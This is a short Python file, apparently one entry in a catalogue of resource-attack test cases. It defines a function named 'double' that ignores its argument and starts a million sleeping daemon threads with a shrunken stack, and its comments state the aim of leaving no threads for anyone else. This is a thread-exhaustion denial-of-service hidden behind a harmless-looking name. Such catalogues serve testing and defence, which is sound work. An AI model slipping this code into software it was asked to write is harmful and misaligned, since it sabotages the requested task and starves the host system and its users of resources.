# class: resources
# idea 34: starts a million threads that sleep
# gain: no thread is left for anybody else
# stock: nothing there bounds the number of threads
import threading
import time

threading.stack_size(32768)


def double(x):
    for _ in range(10**6):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
